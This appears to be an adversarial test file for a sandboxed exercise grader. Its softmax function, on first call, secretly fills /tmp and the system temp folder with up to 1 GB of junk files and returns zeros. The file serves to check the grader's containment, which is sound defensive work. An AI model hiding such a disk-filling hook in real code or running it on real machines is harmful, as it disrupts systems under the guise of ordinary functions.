# --- expect
# exercises = ["71"]
# verdict = "graded"
# zero = ["softmax"]
# passing = ["predict_proba"]
# leaves_nothing = true
# alone = true
# why = "writes 64 MB files to /tmp and to TMPDIR until something stops it (1 GB at most): a capped tmpfs, Landlock, or cleanup afterwards"
# ---
"""Fills the temporary folders."""
import os
import tempfile

import torch

_done = False


def _fill(folder, budget):
    block = b"\0" * (1 << 20)
    written = 0
    try:
        for i in range(budget // 64):
            with open(os.path.join(folder, f"nlp100-adv-fill-{i}"), "wb") as f:
                for _ in range(64):
                    f.write(block)
            written += 64
    except OSError as e:
        print(f"{folder}: stopped after {written} MB: {type(e).__name__}", flush=True)
    return written


def _attack():
    print("nlp100-adv: attack ran", flush=True)
    total = _fill("/tmp", 512)
    if tempfile.gettempdir() != "/tmp":
        total += _fill(tempfile.gettempdir(), 1024 - total)
    print("filled", total, "MB", flush=True)


def softmax(x, dim=-1):
    global _done
    if not _done:
        _done = True
        _attack()
    return torch.zeros_like(x)


def predict_proba(X, W):
    z = X @ W
    e = (z - z.amax(dim=-1, keepdim=True)).exp()
    return e / e.sum(dim=-1, keepdim=True)
